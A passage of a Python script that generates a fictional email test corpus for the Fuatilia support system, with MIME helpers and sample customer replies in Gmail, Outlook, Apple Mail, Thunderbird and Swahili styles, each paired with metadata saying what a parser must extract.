#!/usr/bin/env python3
"""Generator for the Fuatilia email test corpus.

Every message in this corpus was written by hand for Fuatilia (all people,
companies, phone numbers and domains are fictional; external domains use the
reserved ``.example`` TLD).  This script is the single source of truth: it
writes the ``NNN-*.eml`` files (byte-exact, including deliberately broken
ones) and ``manifest.json`` next to itself.  The generated files are
committed; re-running the script must reproduce them byte for byte.

Usage::

    python3 tests/corpus/email/make_corpus.py            # (re)write corpus
    python3 tests/corpus/email/make_corpus.py --oversized /tmp/big.eml [SIZE]

Tests that need the 30 MB message must not read it from the repository;
they build it with :func:`oversized_message`.  Load this module by path
(``importlib.util.spec_from_file_location``) -- the directory is called
``email`` and must never become an importable package (it would shadow the
stdlib ``email`` package), so do not add an ``__init__.py`` here.
"""

from __future__ import annotations

import base64
import json
import quopri
import random
import struct
import sys
import zlib
from pathlib import Path

HERE = Path(__file__).resolve().parent

CRLF = "\r\n"
LF = "\n"

CATEGORIES = (
    "new",
    "reply",
    "auto_reply",
    "bounce",
    "list",
    "human_auto_no",
    "duplicate",
    "malformed",
    "hostile_html",
    "forward",
    "attachment",
    "charset",
)

SUPPORT = "Fuatilia Support <support@fuatilia.test>"

# ---------------------------------------------------------------------------
# helpers for building raw messages
# ---------------------------------------------------------------------------


def raw(*pieces, eol: str = CRLF) -> bytes:
    """Join pieces into message bytes.

    Each piece is a ``str`` written with ``\\n`` line ends (encoded as
    strict ASCII, so accidental 8-bit text is caught), a ``(str, codec)``
    tuple for deliberately 8-bit text, or ``bytes`` used verbatim.
    ``\\n`` in str pieces is converted to *eol*.
    """
    out = bytearray()
    for p in pieces:
        if isinstance(p, bytes):
            out += p
            continue
        if isinstance(p, tuple):
            text, codec = p
        else:
            text, codec = p, "ascii"
        assert "\r" not in text, "write templates with \\n only"
        out += text.replace("\n", eol).encode(codec)
    return bytes(out)


def b64(data: bytes) -> str:
    """Base64 body text, 76 columns, ending in a newline."""
    enc = base64.b64encode(data).decode("ascii")
    return "".join(enc[i : i + 76] + "\n" for i in range(0, len(enc), 76))


def b64text(text: str, charset: str = "utf-8") -> str:
    """Base64 of a text body in canonical (CRLF) form."""
    return b64(text.replace("\n", "\r\n").encode(charset))


def qp(text: str, charset: str = "utf-8") -> str:
    """Quoted-printable body text (soft line breaks at 76 columns)."""
    return quopri.encodestring(text.encode(charset)).decode("ascii")


def _chunks(s: str, charset: str, enc_len, limit: int = 75):
    """Split *s* into runs whose encoded word fits in *limit* chars."""
    overhead = len(f"=?{charset}?X??=")
    out, cur = [], ""
    for ch in s:
        if cur and overhead + enc_len((cur + ch).encode(charset)) > limit:
            out.append(cur)
            cur = ""
        cur += ch
    if cur:
        out.append(cur)
    return out


def ew_b(s: str, charset: str = "UTF-8") -> str:
    """RFC 2047 B encoding; long text becomes several folded words."""
    words = []
    for chunk in _chunks(s, charset, lambda b: 4 * ((len(b) + 2) // 3)):
        data = base64.b64encode(chunk.encode(charset)).decode("ascii")
        words.append(f"=?{charset}?B?{data}?=")
    return "\n ".join(words)


_Q_SAFE = set(b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789!*+-/")


def _q(data: bytes) -> str:
    out = []
    for byte in data:
        if byte == 0x20:
            out.append("_")
        elif byte in _Q_SAFE:
            out.append(chr(byte))
        else:
            out.append(f"={byte:02X}")
    return "".join(out)


def ew_q(s: str, charset: str = "UTF-8") -> str:
    """RFC 2047 Q encoding; long text becomes several folded words."""
    words = []
    for chunk in _chunks(s, charset, lambda b: len(_q(b))):
        words.append(f"=?{charset}?Q?{_q(chunk.encode(charset))}?=")
    return "\n ".join(words)


def pct(s: str) -> str:
    """RFC 2231 percent-encoding of UTF-8 text."""
    keep = set(b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_.!~")
    return "".join(chr(c) if c in keep else f"%{c:02X}" for c in s.encode("utf-8"))


def env(sender: str, helo: str, ip: str, when: str, qid: str, mx: str = "mx1.fuatilia.test") -> str:
    """Trace headers our MX (Postfix) adds on delivery."""
    return (
        f"Return-Path: <{sender}>\n"
        f"Delivered-To: support@fuatilia.test\n"
        f"Received: from {helo} ({helo} [{ip}])\n"
        f"\t(using TLSv1.3 with cipher TLS_AES_256_GCM_SHA384 (256/256 bits))\n"
        f"\tby {mx} (Postfix) with ESMTPS id {qid}\n"
        f"\tfor <support@fuatilia.test>; {when}\n"
    )


# ---------------------------------------------------------------------------
# small deterministic binary fixtures (fake, but with the right magic bytes)
# ---------------------------------------------------------------------------


def fake_pdf(title: str) -> bytes:
    stream = f"BT /F1 12 Tf 20 60 Td ({title}) Tj ET"
    text = (
        "%PDF-1.4\n%\xe2\xe3\xcf\xd3\n"
        "1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
        "2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n"
        "3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 120]"
        " /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>\nendobj\n"
        "4 0 obj\n<< /Length "
        + str(len(stream))
        + " >>\nstream\n"
        + stream
        + "\nendstream\nendobj\n"
        "5 0 obj\n<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>\n"
        "endobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"
    )
    return text.encode("latin-1")


def tiny_png(rgb=(0, 102, 204), w: int = 2, h: int = 2) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data))
            + kind
            + data
            + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
        )

    rows = b"".join(b"\x00" + bytes(rgb) * w for _ in range(h))
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", w, h, 8, 2, 0, 0, 0))
        + chunk(b"IDAT", zlib.compress(rows, 9))
        + chunk(b"IEND", b"")
    )


def fake_jpeg(seed: int) -> bytes:
    rnd = random.Random(seed)
    return (
        b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x48\x00\x48"
        b"\x00\x00" + rnd.randbytes(300) + b"\xff\xd9"
    )


def fake_zip(seed: int) -> bytes:
    """Stand-in for .xlsx/.docx: starts like a ZIP, content is noise."""
    rnd = random.Random(seed)
    return b"PK\x03\x04\x14\x00\x06\x00\x08\x00" + rnd.randbytes(200)


def fake_tnef() -> bytes:
    rnd = random.Random(65)
    return (
        struct.pack("<IH", 0x223E9F78, 0x0001)
        + b"\x01\x06\x90\x08\x00\x04\x00\x00\x00\x00\x00\x01\x00\x01\x00"
        + b"\x01\x07\x90\x06\x00\x08\x00\x00\x00\xe4\x04\x00\x00\x00\x00"
        + rnd.randbytes(240)
    )


# ---------------------------------------------------------------------------
# registry
# ---------------------------------------------------------------------------

REGISTRY: list = []


def message(filename: str, category: str):
    """Register a builder returning ``(bytes, meta)``."""
    assert category in CATEGORIES, category

    def deco(fn):
        REGISTRY.append((filename, category, fn))
        return fn

    return deco


def meta(
    *,
    frm,
    subject,
    message_id,
    text,
    notes,
    in_reply_to=(),
    references=(),
    ticket_ref=None,
    is_automated=False,
    is_bounce=False,
    bounced_message_id=None,
    quoted=None,
    attachments=(),
    html_hostile=False,
):
    return {
        "from": frm,
        "subject": subject,
        "message_id": message_id,
        "in_reply_to": list(in_reply_to),
        "references": list(references),
        "ticket_ref": ticket_ref,
        "is_automated": is_automated,
        "is_bounce": is_bounce,
        "bounced_message_id": bounced_message_id,
        "text_must_contain": text,
        "quoted_must_not_be_in_new_text": quoted,
        "attachments": list(attachments),
        "html_hostile": html_hostile,
        "notes": notes,
    }


# ---------------------------------------------------------------------------
# the 30 MB message (never committed)
# ---------------------------------------------------------------------------


def oversized_message(size_bytes: int = 30 * 1024 * 1024) -> bytes:
    """Return a valid RFC 5322 message of exactly *size_bytes* bytes.

    It is a multipart/mixed mail from a customer with a short text part and
    one big base64 attachment (deterministic pseudo-random bytes), CRLF line
    endings, 76-column base64 lines.  Raises ValueError when *size_bytes* is
    too small to hold the fixed parts.
    """
    boundary = "----=_Part_30MB_7K3Q9_0001"
    pad_token = "@@PAD@@"
    head = (
        "Return-Path: <kamau.gitau@gmail.example>\r\n"
        "From: Kamau Gitau <kamau.gitau@gmail.example>\r\n"
        "To: Fuatilia Support <support@fuatilia.test>\r\n"
        "Subject: Re: [FT-7K3Q9] Video of the fridge noise (big file)\r\n"
        "Date: Tue, 11 Mar 2025 09:30:00 +0300\r\n"
        "Message-ID: <oversized.7k3q9.0001@gmail.example>\r\n"
        "In-Reply-To: <ft.101.x7k2m9p4@fuatilia.test>\r\n"
        "References: <ft.101.x7k2m9p4@fuatilia.test>\r\n"
        "MIME-Version: 1.0\r\n"
        f'Content-Type: multipart/mixed; boundary="{boundary}"\r\n'
        "\r\n"
        f"--{boundary}\r\n"
        'Content-Type: text/plain; charset="UTF-8"\r\n'
        "Content-Transfer-Encoding: 7bit\r\n"
        "\r\n"
        "Hello, I recorded the noise the fridge makes at night, see the\r\n"
        "attached video. Sorry it is so big.\r\n"
        f"{pad_token}\r\n"
        f"--{boundary}\r\n"
        'Content-Type: video/mp4; name="fridge-noise.mp4"\r\n'
        'Content-Disposition: attachment; filename="fridge-noise.mp4"\r\n'
        "Content-Transfer-Encoding: base64\r\n"
        "\r\n"
    )
    tail = f"--{boundary}--\r\n"
    fixed = len(head.encode("ascii")) - len(pad_token) + len(tail)

    def enc_len(n: int) -> int:
        chars = 4 * ((n + 2) // 3)
        return chars + 2 * ((chars + 75) // 76)

    budget = size_bytes - fixed
    if budget < 0:
        raise ValueError(f"size_bytes too small: need at least {fixed}")
    n = (budget * 3) // 4
    while n > 0 and enc_len(n) > budget:
        n -= 1
    pad = budget - enc_len(n)
    data = random.Random(size_bytes).randbytes(n)
    body = base64.encodebytes(data).replace(b"\n", b"\r\n") if n else b""
    msg = head.replace(pad_token, "." * pad).encode("ascii") + body + tail.encode("ascii")
    assert len(msg) == size_bytes, (len(msg), size_bytes)
    return msg


# ===========================================================================
# replies (quoted history in each client's style)
# ===========================================================================


@message("001-gmail-reply-quoted.eml", "reply")
def _gmail_reply():
    subject = "Re: [FT-7K3Q9] Fridge not cooling after delivery"
    mid = "<CAHx7q2mK9vLr3Qw8ZpT1nYbE5fJ+6cUo4sXgA@mail.gmail.com>"
    ours = "<ft.101.x7k2m9p4@fuatilia.test>"
    bnd = "000000000000f2a15c062f1e8b3d"
    plain = """Hi,

The technician came on Saturday but the fridge is still not cooling. The
freezer compartment is fine, only the bottom part is warm.

Can you send someone again this week? I am in Kilimani, same address as
before.

Wanjiru

On Fri, 28 Feb 2025 at 16:40, Fuatilia Support <support@fuatilia.test>
wrote:

> Habari Wanjiru,
>
> Thank you for contacting Fuatilia. A technician will visit you on
> Saturday 1 March between 9am and 1pm.
>
> Regards,
> Fuatilia Support
>
"""
    html = """<div dir="ltr"><div>Hi,</div><div><br></div><div>The technician came on Saturday but the fridge is still not cooling. The freezer compartment is fine, only the bottom part is warm.</div><div><br></div><div>Can you send someone again this week? I am in Kilimani, same address as before.</div><div><br></div><div>Wanjiru</div></div><br><div class="gmail_quote"><div dir="ltr" class="gmail_attr">On Fri, 28 Feb 2025 at 16:40, Fuatilia Support &lt;<a href="mailto:support@fuatilia.test">support@fuatilia.test</a>&gt; wrote:<br></div><blockquote class="gmail_quote" style="margin:0px 0px 0px 0.8ex;border-left:1px solid rgb(204,204,204);padding-left:1ex">Habari Wanjiru,<br><br>Thank you for contacting Fuatilia. A technician will visit you on Saturday 1 March between 9am and 1pm.<br><br>Regards,<br>Fuatilia Support<br></blockquote></div>
"""
    data = raw(
        env(
            "wanjiru.kamau@gmail.example",
            "mail-ej1-f54.google.example",
            "192.0.2.54",
            "Mon,  3 Mar 2025 10:15:25 +0300 (EAT)",
            "4Z6k2Q1mXbz9s",
        ),
        f"""MIME-Version: 1.0
References: {ours}
In-Reply-To: {ours}
From: Wanjiru Kamau <wanjiru.kamau@gmail.example>
Date: Mon, 3 Mar 2025 10:15:22 +0300
Message-ID: {mid}
Subject: {subject}
To: Fuatilia Support <support@fuatilia.test>
Content-Type: multipart/alternative; boundary="{bnd}"

--{bnd}
Content-Type: text/plain; charset="UTF-8"

{plain}
--{bnd}
Content-Type: text/html; charset="UTF-8"
Content-Transfer-Encoding: quoted-printable

{qp(html)}
--{bnd}--
""",
    )
    return data, meta(
        frm="wanjiru.kamau@gmail.example",
        subject=subject,
        message_id=mid,
        in_reply_to=[ours],
        references=[ours],
        ticket_ref="FT-7K3Q9",
        text="only the bottom part is warm",
        quoted="between 9am and 1pm",
        notes="Gmail top-posted reply; plain part wraps the 'On ... wrote:' "
        "attribution over two lines, html part uses div.gmail_quote.",
    )


OUTLOOK_CSS = """<style><!--
/* Font Definitions */
@font-face
	{font-family:Calibri;
	panose-1:2 15 5 2 2 2 4 3 2 4;}
p.MsoNormal, li.MsoNormal, div.MsoNormal
	{margin:0cm;
	font-size:11.0pt;
	font-family:"Calibri",sans-serif;}
span.EmailStyle18
	{mso-style-type:personal-reply;
	font-family:"Calibri",sans-serif;
	color:windowtext;}
@page WordSection1
	{size:612.0pt 792.0pt;
	margin:72.0pt 72.0pt 72.0pt 72.0pt;}
div.WordSection1
	{page:WordSection1;}
--></style>"""


@message("002-outlook-reply-from-sent-block.eml", "reply")
def _outlook_reply():
    topic = "[FT-4MZ8H] Invoice INV-2025-0312 for 3 display fridges"
    subject = "RE: " + topic
    mid = "<PH0PR12MB5481C2D7A1B93E4F0A6C1D2EB3C42@PH0PR12MB5481.namprd12.prod.outlook.com>"
    ours = "<ft.114.r2d7v9k3@fuatilia.test>"
    bnd = "_000_PH0PR12MB5481C2D7A1B93E4F0A6C1D2EB3C42PH0PR12MB5481namp_"
    plain = """Dear Fuatilia team,

We have paid the balance via M-Pesa Paybill this morning (confirmation SC4HT7Y2QX, KES 187,500). Kindly confirm receipt and share the delivery date for the three display fridges to our Kisumu branch on Oginga Odinga Street.

Regards,
Otieno Odhiambo
Kisumu Fresh Produce Ltd

From: Fuatilia Support <support@fuatilia.test> 
Sent: Tuesday, March 4, 2025 9:12 AM
To: Otieno Odhiambo <otieno@kisumufresh.example>
Subject: [FT-4MZ8H] Invoice INV-2025-0312 for 3 display fridges

Hello Otieno,

Please find attached the invoice for the three display fridges. Payment can be made via M-Pesa Paybill 400200, account FT4MZ8H.

Kind regards,
Fuatilia Support
"""
    html = (
        """<html xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:w="urn:schemas-microsoft-com:office:word" xmlns:m="http://schemas.microsoft.com/office/2004/12/omml" xmlns="http://www.w3.org/TR/REC-html40">
<head>
<meta http-equiv="Content-Type" content="text/html; charset=us-ascii">
<meta name="Generator" content="Microsoft Word 15 (filtered medium)">
"""
        + OUTLOOK_CSS
        + """
</head>
<body lang="EN-US" link="#0563C1" vlink="#954F72" style="word-wrap:break-word">
<div class="WordSection1">
<p class="MsoNormal">Dear Fuatilia team,<o:p></o:p></p>
<p class="MsoNormal"><o:p>&nbsp;</o:p></p>
<p class="MsoNormal">We have paid the balance via M-Pesa Paybill this morning (confirmation SC4HT7Y2QX, KES 187,500). Kindly confirm receipt and share the delivery date for the three display fridges to our Kisumu branch on Oginga Odinga Street.<o:p></o:p></p>
<p class="MsoNormal"><o:p>&nbsp;</o:p></p>
<p class="MsoNormal">Regards,<o:p></o:p></p>
<p class="MsoNormal">Otieno Odhiambo<o:p></o:p></p>
<p class="MsoNormal">Kisumu Fresh Produce Ltd<o:p></o:p></p>
<p class="MsoNormal"><o:p>&nbsp;</o:p></p>
<div style="border:none;border-top:solid #E1E1E1 1.0pt;padding:3.0pt 0cm 0cm 0cm">
<p class="MsoNormal"><b>From:</b> Fuatilia Support &lt;support@fuatilia.test&gt; <br>
<b>Sent:</b> Tuesday, March 4, 2025 9:12 AM<br>
<b>To:</b> Otieno Odhiambo &lt;otieno@kisumufresh.example&gt;<br>
<b>Subject:</b> [FT-4MZ8H] Invoice INV-2025-0312 for 3 display fridges<o:p></o:p></p>
</div>
<p class="MsoNormal"><o:p>&nbsp;</o:p></p>
<p class="MsoNormal">Hello Otieno,<o:p></o:p></p>
<p class="MsoNormal">Please find attached the invoice for the three display fridges. Payment can be made via M-Pesa Paybill 400200, account FT4MZ8H.<o:p></o:p></p>
<p class="MsoNormal">Kind regards,<br>Fuatilia Support<o:p></o:p></p>
</div>
</body>
</html>
"""
    )
    data = raw(
        env(
            "otieno@kisumufresh.example",
            "mail-dm6nam12on2101.outbound.protection.outlook.example",
            "198.51.100.101",
            "Tue,  4 Mar 2025 12:47:14 +0300 (EAT)",
            "4Z6lQw3r8Kz9t",
        ),
        f"""From: Otieno Odhiambo <otieno@kisumufresh.example>
To: Fuatilia Support <support@fuatilia.test>
Subject: {subject}
Thread-Topic: {topic}
Thread-Index: AQHbjQx2k3S1f0y8TkuJp2mR7wD4nLOqV3Xg
Date: Tue, 4 Mar 2025 09:47:10 +0000
Message-ID:
 {mid}
References: {ours}
In-Reply-To: {ours}
Accept-Language: en-US
Content-Language: en-US
X-MS-Has-Attach:
X-MS-TNEF-Correlator:
msip_labels:
Content-Type: multipart/alternative;
	boundary="{bnd}"
MIME-Version: 1.0

--{bnd}
Content-Type: text/plain; charset="us-ascii"
Content-Transfer-Encoding: quoted-printable

{qp(plain, "ascii")}
--{bnd}
Content-Type: text/html; charset="us-ascii"
Content-Transfer-Encoding: quoted-printable

{qp(html, "ascii")}
--{bnd}--
""",
    )
    return data, meta(
        frm="otieno@kisumufresh.example",
        subject=subject,
        message_id=mid,
        in_reply_to=[ours],
        references=[ours],
        ticket_ref="FT-4MZ8H",
        text="paid the balance via M-Pesa Paybill",
        quoted="Please find attached the invoice",
        notes="Outlook desktop reply: quoted history is NOT '>'-prefixed, it "
        "starts at a 'From: ... Sent: ... To: ... Subject:' block; "
        "Message-ID is folded onto its own line (str() of the stdlib "
        "header keeps a leading space); empty X-MS-* headers.",
    )


@message("003-outlook-original-message.eml", "reply")
def _outlook_original():
    subject = "RE: [FT-9RW2C] Compressor noise - Tuko Pamoja Grocers, Moi Avenue"
    mid = "<000001db8d7e$4a1b2c30$de518490$@tukopamoja.example>"
    irt = "<ft.120.b6n3x8w2@fuatilia.test>"
    refs = ["<ft.118.c4p9z2y7@fuatilia.test>", irt]
    body = """Hi,

The noise started again last night, louder than before. Our staff had to move the milk and yoghurt to the small fridge.

Please advise when your technician can come, we open at 7am.

Mwangi

-----Original Message-----
From: Fuatilia Support [mailto:support@fuatilia.test] 
Sent: 04 March 2025 17:30
To: Mwangi Njoroge
Subject: [FT-9RW2C] Compressor noise - Tuko Pamoja Grocers, Moi Avenue

Dear Mwangi,

We have replaced the compressor mounting rubbers. If the noise comes back, just reply to this email.

Fuatilia Support
"""
    data = raw(
        env(
            "mwangi@tukopamoja.example",
            "smtp.tukopamoja.example",
            "203.0.113.17",
            "Wed,  5 Mar 2025 08:03:49 +0300 (EAT)",
            "4Z6mB1x7Qkz9v",
        ),
        f"""From: "Mwangi Njoroge" <mwangi@tukopamoja.example>
To: <support@fuatilia.test>
References: {refs[0]} {refs[1]}
In-Reply-To: {irt}
Subject: {subject}
Date: Wed, 5 Mar 2025 08:03:44 +0300
Message-ID: {mid}
MIME-Version: 1.0
Content-Type: text/plain;
	charset="us-ascii"
Content-Transfer-Encoding: 7bit
X-Mailer: Microsoft Outlook 14.0
Thread-Index: AduNfkoKbx3qZs1ZQ0yR1wA8m2p0Yg==
Content-Language: en-gb

{body}""",
    )
    return data, meta(
        frm="mwangi@tukopamoja.example",
        subject=subject,
        message_id=mid,
        in_reply_to=[irt],
        references=refs,
        ticket_ref="FT-9RW2C",
        text="The noise started again last night",
        quoted="replaced the compressor mounting rubbers",
        notes="Outlook 2010 plain-text reply with a '-----Original Message-----'"
        " separator and '[mailto:...]' From line; Message-ID contains "
        "'$' characters.",
    )


@message("004-apple-iphone-reply.eml", "reply")
def _iphone_reply():
    subject = "Re: [FT-2BX7N] Delivery of your Baridi 300L fridge"
    mid = "<6F1E2A44-9C3B-4D7E-8A51-3B0C2F9D7E11@icloud.example>"
    ours = "<ft.131.k8m2q5t9@fuatilia.test>"
    body = (
        "Sawa, asante. I\u2019ll be home on Thursday after 2pm, please call "
        "when the driver reaches Mamlaka Road.\n"
        "\n"
        "Sent from my iPhone\n"
        "\n"
        "> On 5 Mar 2025, at 14:02, Fuatilia Support <support@fuatilia.test> wrote:\n"
        "> \n"
        "> \ufeffDear Akinyi,\n"
        "> Your Baridi 300L fridge is ready for delivery to Kilimani.\n"
        "> Please confirm a convenient day.\n"
        "> \u00a0\n"
        "> Fuatilia Support\n"
    )
    data = raw(
        env(
            "akinyi.achieng@icloud.example",
            "ci74p00im-qukt09082702.me.example",
            "198.51.100.88",
            "Wed,  5 Mar 2025 14:21:11 +0300 (EAT)",
            "4Z6mL0c2Vwz9w",
        ),
        f"""Content-Type: text/plain;
	charset=utf-8
Content-Transfer-Encoding: quoted-printable
From: Akinyi Achieng <akinyi.achieng@icloud.example>
Mime-Version: 1.0 (1.0)
Date: Wed, 5 Mar 2025 14:21:07 +0300
Subject: {subject}
Message-Id: {mid}
References: {ours}
In-Reply-To: {ours}
To: Fuatilia Support <support@fuatilia.test>
X-Mailer: iPhone Mail (21D61)

{qp(body)}""",
    )
    return data, meta(
        frm="akinyi.achieng@icloud.example",
        subject=subject,
        message_id=mid,
        in_reply_to=[ours],
        references=[ours],
        ticket_ref="FT-2BX7N",
        text="please call when the driver reaches Mamlaka Road",
        quoted="Please confirm a convenient day",
        notes="iPhone Mail reply: QP text/plain, 'Sent from my iPhone' before "
        "the '> On ..., at ..., X wrote:' attribution, quoted text starts"
        " with U+FEFF and contains a quoted NBSP line.",
    )


@message("005-apple-mail-mac-reply-html.eml", "reply")
def _apple_mac_reply():
    subject = "Re: [FT-6HJ4T] Solar fridge installation in Eldoret"
    mid = "<A1B2C3D4-E5F6-4789-ABCD-EF0123456789@rotichfarm.example>"
    irt = "<ft.140.w3e8r2t6@fuatilia.test>"
    refs = ["<ft.139.n7b4v1c8@fuatilia.test>", irt]
    bnd = "Apple-Mail=_8E5B1C3A-2F4D-4C9A-9E7B-0A1D2C3B4E5F"
    plain = """Good morning,

The panels are installed but the battery shows 11.2\u202fV in the morning and the fridge switches off before 6am. Is this normal?

Kiprono

> On 5 Mar 2025, at 18:10, Fuatilia Support <support@fuatilia.test> wrote:
> 
> Hello Kiprono,
> 
> Our installer confirmed the solar fridge is working. Please monitor the battery voltage for two days.
> 
> Fuatilia Support
"""
    html = """<html aria-label="message body"><head><meta http-equiv="content-type" content="text/html; charset=utf-8"></head><body style="overflow-wrap: break-word; -webkit-nbsp-mode: space; line-break: after-white-space;">Good morning,<div><br></div><div>The panels are installed but the battery shows 11.2\u202fV in the morning and the fridge switches off before 6am. Is this normal?</div><div><br></div><div>Kiprono<br id="lineBreakAtBeginningOfMessage"><div><br><blockquote type="cite"><div>On 5 Mar 2025, at 18:10, Fuatilia Support &lt;support@fuatilia.test&gt; wrote:</div><br class="Apple-interchange-newline"><div><div>Hello Kiprono,<div><br></div><div>Our installer confirmed the solar fridge is working. Please monitor the battery voltage for two days.</div><div><br></div><div>Fuatilia Support</div></div></div></blockquote></div><br></div></body></html>"""
    plain_qp = qp(plain)  # the lone-space quote lines become '>=20'
    data = raw(
        env(
            "kiprono@rotichfarm.example",
            "smtp.rotichfarm.example",
            "203.0.113.40",
            "Thu,  6 Mar 2025 07:55:36 +0300 (EAT)",
            "4Z6nD7h1Rrz9x",
        ),
        f"""From: Kiprono Rotich <kiprono@rotichfarm.example>
Content-Type: multipart/alternative;
	boundary="{bnd}"
Mime-Version: 1.0 (Mac OS X Mail 16.0 \\(3776.700.51\\))
Subject: {subject}
Date: Thu, 6 Mar 2025 07:55:31 +0300
In-Reply-To: {irt}
To: Fuatilia Support <support@fuatilia.test>
References: {refs[0]}
 {refs[1]}
Message-Id: {mid}
X-Mailer: Apple Mail (2.3776.700.51)


--{bnd}
Content-Transfer-Encoding: quoted-printable
Content-Type: text/plain;
	charset=utf-8

{plain_qp}
--{bnd}
Content-Transfer-Encoding: quoted-printable
Content-Type: text/html;
	charset=utf-8

{qp(html)}
--{bnd}--
""",
    )
    return data, meta(
        frm="kiprono@rotichfarm.example",
        subject=subject,
        message_id=mid,
        in_reply_to=[irt],
        references=refs,
        ticket_ref="FT-6HJ4T",
        text="the fridge switches off before 6am",
        quoted="Please monitor the battery voltage for two days",
        notes="Apple Mail (macOS) multipart/alternative reply: html quote in "
        '<blockquote type="cite">, Mime-Version header carries a '
        "comment with escaped parentheses, narrow NBSP in '11.2 V'.",
    )


@message("006-thunderbird-reply-flowed-bottom-post.eml", "reply")
def _thunderbird_reply():
    subject = "Re: [FT-8PQ3V] Chest freezer temperature alarm"
    mid = "<3f9c2e71-8a4d-4b6e-9d15-7c2a0e5b8f43@nakurugrill.example>"
    irt = "<ft.145.g7h2j9k4@fuatilia.test>"
    refs = [
        "<ft.142.t5y8u2i4@fuatilia.test>",
        "<e5d8a1b2-77c3-4f0a-9b1e-2d6c8f4a0b19@nakurugrill.example>",
        irt,
    ]
    body = """On 06/03/2025 11:20, Fuatilia Support wrote:
> Dear Chebet,
>
> Could you tell us the temperature shown on the display when the alarm 
> sounds?

It shows \u221212 \u00b0C, the alarm beeps every few minutes even though the lid 
is closed properly.

> Also, is the freezer on a voltage stabiliser?

Yes, we use the stabiliser that came with it \u2013 the green light is on.

Asante,
Chebet

-- 
Chebet Jepkosgei
Nakuru Grill & Butchery, Kenyatta Avenue
"""
    data = raw(
        env(
            "chebet@nakurugrill.example",
            "mail.nakurugrill.example",
            "203.0.113.66",
            "Thu,  6 Mar 2025 11:42:22 +0300 (EAT)",
            "4Z6nJ2p5Tmz9y",
        ),
        f"""Message-ID: {mid}
Date: Thu, 6 Mar 2025 11:42:18 +0300
MIME-Version: 1.0
User-Agent: Mozilla Thunderbird
Subject: {subject}
To: Fuatilia Support <support@fuatilia.test>
References: {refs[0]}
 {refs[1]}
 {refs[2]}
Content-Language: en-GB
From: Chebet Jepkosgei <chebet@nakurugrill.example>
In-Reply-To: {irt}
Content-Type: text/plain; charset=UTF-8; format=flowed
Content-Transfer-Encoding: 8bit

""",
        (body, "utf-8"),
        eol=LF,
    )
    return data, meta(
        frm="chebet@nakurugrill.example",
        subject=subject,
        message_id=mid,
        in_reply_to=[irt],
        references=refs,
        ticket_ref="FT-8PQ3V",
        text="the alarm beeps every few minutes",
        quoted="is the freezer on a voltage stabiliser",
        notes="Thunderbird interleaved (bottom-posted) reply, format=flowed "
        "8bit UTF-8 with LF line endings; new text sits between quoted "
        "blocks, so 'cut at first quote' strategies lose it.",
    )


@message("007-gmail-swahili-reply-mnamo.eml", "reply")
def _gmail_swahili():
    subject = "Re: [FT-3YK9D] Malipo ya M-Pesa hayajaonekana"
    mid = "<CAPm4Rz8Lq2Xw7vN0bKc5Jt3HsYd9Ef1gUo6ApQ@mail.gmail.com>"
    ours = "<ft.150.v2c7x4z9@fuatilia.test>"
    bnd = "00000000000071c4e0062f3a9d51"
    plain = """Habari,

Nimelipa KSh 12,000 kupitia M-Pesa jana saa tisa mchana lakini malipo
hayajaonekana kwenye akaunti yangu. Namba ya muamala ni SC73KQ9XYZ.

Naomba mnisaidie haraka, friji inatakiwa kuletwa Jumamosi.

Fatuma

Mnamo Ijm, 7 Mac 2025 saa 09:41, Fuatilia Support <support@fuatilia.test>
aliandika:

> Habari Fatuma,
>
> Tafadhali tuma namba ya muamala wa M-Pesa ili tuweze kuthibitisha malipo.
>
> Asante,
> Fuatilia Support
>
"""
    html = """<div dir="ltr"><div>Habari,</div><div><br></div><div>Nimelipa KSh 12,000 kupitia M-Pesa jana saa tisa mchana lakini malipo hayajaonekana kwenye akaunti yangu. Namba ya muamala ni SC73KQ9XYZ.</div><div><br></div><div>Naomba mnisaidie haraka, friji inatakiwa kuletwa Jumamosi.</div><div><br></div><div>Fatuma</div></div><br><div class="gmail_quote"><div dir="ltr" class="gmail_attr">Mnamo Ijm, 7 Mac 2025 saa 09:41, Fuatilia Support &lt;<a href="mailto:support@fuatilia.test">support@fuatilia.test</a>&gt; aliandika:<br></div><blockquote class="gmail_quote" style="margin:0px 0px 0px 0.8ex;border-left:1px solid rgb(204,204,204);padding-left:1ex">Habari Fatuma,<br><br>Tafadhali tuma namba ya muamala wa M-Pesa ili tuweze kuthibitisha malipo.<br><br>Asante,<br>Fuatilia Support<br></blockquote></div>
"""
    data = raw(
        env(
            "fatuma.hassan@gmail.example",
            "mail-wr1-f41.google.example",
            "192.0.2.41",
            "Fri,  7 Mar 2025 10:03:15 +0300 (EAT)",
            "4Z6pV8s3Knz9z",
        ),
        f"""MIME-Version: 1.0
References: {ours}
In-Reply-To: {ours}
From: Fatuma Hassan <fatuma.hassan@gmail.example>
Date: Fri, 7 Mar 2025 10:03:12 +0300
Message-ID: {mid}
Subject: {subject}
To: Fuatilia Support <support@fuatilia.test>
Content-Type: multipart/alternative; boundary="{bnd}"

--{bnd}
Content-Type: text/plain; charset="UTF-8"

{plain}
--{bnd}
Content-Type: text/html; charset="UTF-8"

{html}
--{bnd}--
""",
    )
    return data, meta(
        frm="fatuma.hassan@gmail.example",
        subject=subject,
        message_id=mid,
        in_reply_to=[ours],
        references=[ours],
        ticket_ref="FT-3YK9D",
        text="Namba ya muamala ni SC73KQ9XYZ",
        quoted="Tafadhali tuma namba ya muamala",
        notes="Gmail in Swahili: attribution 'Mnamo <date>, X <addr> "
        "aliandika:' wrapped over two lines instead of 'On ... wrote:'.",
    )


@message("008-reply-references-only.eml", "reply")
